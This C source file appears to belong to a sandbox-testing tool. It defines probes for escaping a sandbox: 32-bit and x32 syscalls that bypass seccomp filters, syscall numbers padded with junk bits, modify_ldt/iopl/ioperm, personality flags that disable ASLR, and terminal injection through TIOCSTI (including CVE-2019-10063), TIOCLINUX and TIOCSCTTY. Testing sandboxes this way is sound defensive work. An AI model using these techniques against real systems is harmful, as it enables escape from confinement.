/* SPDX-License-Identifier: LGPL-2.1-or-later */

/* What is special to a machine: other tables of calls, the processor's own rights; and terminals. */

#include "attack.h"

#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/personality.h>
#include <sys/syscall.h>
#include <sys/wait.h>
#include <unistd.h>
#ifdef __x86_64__
#include <asm/ldt.h>
#include <sys/io.h>
#endif

#define TYPED "escaped\n"

#ifdef __x86_64__

/* ---- the table of 32-bit calls, which a filter for 64 bits does not know ---- */

typedef struct OldCall {
        long number, arguments[3];
} OldCall;

static long old_call(const OldCall *c)
{
        long result;

        __asm__ volatile("int $0x80"
                         : "=a"(result)
                         : "a"(c->number), "b"(c->arguments[0]), "c"(c->arguments[1]), "d"(c->arguments[2])
                         : "memory", "r8", "r9", "r10", "r11");
        return result;
}

static int in_old_table(void *call)
{
        long r = old_call(call);

        return r >= 0 ? 0 : (int)-r;
}

static Verdict by_old_table(Attempt *a, OldCall call, const char *what)
{
        int status = in_child(in_old_table, &call);

        if (status == 128 + SIGSEGV)
                return not_applicable(a, "this kernel has no 32-bit calls");
        if (status > 128)
                return held(a, "signal %d", status - 128);
        errno = status;
        return by_result(a, status == 0 ? 0 : -1, what);
}

static Verdict old_unshare(Attempt *a)
{
        return by_old_table(a, (OldCall){310, {0x10000000 /* CLONE_NEWUSER */, 0, 0}}, "unshare of i386");
}

static Verdict old_ptrace(Attempt *a)
{
        return by_old_table(a, (OldCall){26, {16 /* PTRACE_ATTACH */, 1, 0}}, "ptrace of i386");
}

/* Is the table there at all? What it has is harder to see through, and was not filtered in many sandboxes. */
static Verdict old_getpid(Attempt *a)
{
        return by_old_table(a, (OldCall){20, {0, 0, 0}}, "getpid of i386");
}

static Verdict x32(Attempt *a)
{
        long r = syscall(0x40000000 | SYS_getpid);

        if (r < 0)
                return by_result(a, r, "getpid of x32");
        return by_result(a, syscall(0x40000000 | SYS_unshare, 0x10000000), "unshare of x32");
}

/* Numbers whose low half is a call, and whose high half is junk. */
static Verdict wide_number(Attempt *a)
{
        long r;

        __asm__ volatile("syscall" : "=a"(r) : "a"(0xffffffff00000000UL | SYS_unshare), "D"(0x10000000L)
                         : "rcx", "r11", "memory");
        errno = r < 0 ? (int)-r : 0;
        return by_result(a, r < 0 ? -1 : 0, "unshare with junk above");
}

/* ---- rights of the processor ---- */

static Verdict segments(Attempt *a)
{
        struct user_desc entry = {.entry_number = 0, .limit = 0xfffff, .seg_32bit = 1, .limit_in_pages = 1,
                                  .useable = 1};

        return by_result(a, syscall(SYS_modify_ldt, 1, &entry, sizeof entry), "modify_ldt");
}

static Verdict all_ports(Attempt *a)
{
        return by_result(a, iopl(3), "iopl");
}

static Verdict one_port(Attempt *a)
{
        return by_result(a, ioperm(0x80, 1, 1), "ioperm");
}

#endif

static Verdict fixed_addresses(Attempt *a)
{
        /* Also behind junk that the kernel does not look at. */
        if (syscall(SYS_personality, 0x100000000UL | ADDR_NO_RANDOMIZE) >= 0)
                return escaped(a, "with junk above");
        return by_result(a, syscall(SYS_personality, (unsigned long)ADDR_NO_RANDOMIZE), "personality");
}

static Verdict executable_data(Attempt *a)
{
        return by_result(a, syscall(SYS_personality, (unsigned long)READ_IMPLIES_EXEC), "personality");
}

/* ---- the terminal from which the sandbox was started ---- */

static int open_terminal(void)
{
        for (int fd = 0; fd < 3; fd++)
                if (isatty(fd))
                        return fd;
        return open("/dev/tty", O_RDWR | O_CLOEXEC);
}

/* WIDE: with junk above the 32 bits of the request that the kernel looks at (CVE-2019-10063). */
static Verdict type(Attempt *a)
{
        unsigned long request = TIOCSTI | (strcmp(a->argument, "wide") == 0 ? 0x100000000UL : 0);
        int fd = open_terminal();

        if (fd < 0)
                fd = 0;
        for (const char *c = TYPED; *c; c++)
                if (syscall(SYS_ioctl, fd, request, c) < 0)
                        return held(a, "ioctl: %s", strerrorname_np(errno));
        return escaped(a, "a line was typed");
}

static Verdict paste(Attempt *a)
{
        char subcode = 3; /* TIOCL_PASTESEL */
        int fd = open_terminal();

        return by_result(a, ioctl(fd < 0 ? 0 : fd, TIOCLINUX, &subcode), "ioctl");
}

static Verdict control(Attempt *a)
{
        setsid();
        int fd = open_terminal();
        if (fd < 0)
                return held(a, "no terminal: %s", strerrorname_np(errno));
        return by_result(a, ioctl(fd, TIOCSCTTY, 1), "ioctl");
}

const Attack attacks_by_machine[] = {
#ifdef __x86_64__
        {"int80", "reach the table of 32-bit calls", old_getpid, NULL, 0, NULL},
        {"int80-unshare", "make a user namespace by it", old_unshare, NULL, 0, NULL},
        {"int80-ptrace", "trace process 1 by it", old_ptrace, NULL, 0, NULL},
        {"x32", "reach the table of x32", x32, NULL, 0, NULL},
        {"wide-number", "make a call with junk above its number", wide_number, NULL, 0, NULL},
        {"segments", "change segments (modify_ldt)", segments, NULL, 0, NULL},
        {"all-ports", "use all ports of the machine (iopl)", all_ports, NULL, 0, NULL},
        {"one-port", "use one (ioperm)", one_port, NULL, 0, NULL},
#endif
        {"fixed-addresses", "switch address randomization off", fixed_addresses, NULL, 0, NULL},
        {"executable-data", "make all memory executable", executable_data, NULL, 0, NULL},
        {"type", "type into the terminal outside (TIOCSTI)", type, "plain", TERMINAL, NULL},
        {"type-wide", "type with junk above the request (CVE-2019-10063)", type, "wide", TERMINAL, NULL},
        {"paste", "paste into the console (TIOCLINUX)", paste, NULL, TERMINAL, NULL},
        {"control-terminal", "take over the terminal", control, NULL, TERMINAL, NULL},
        {0},
};
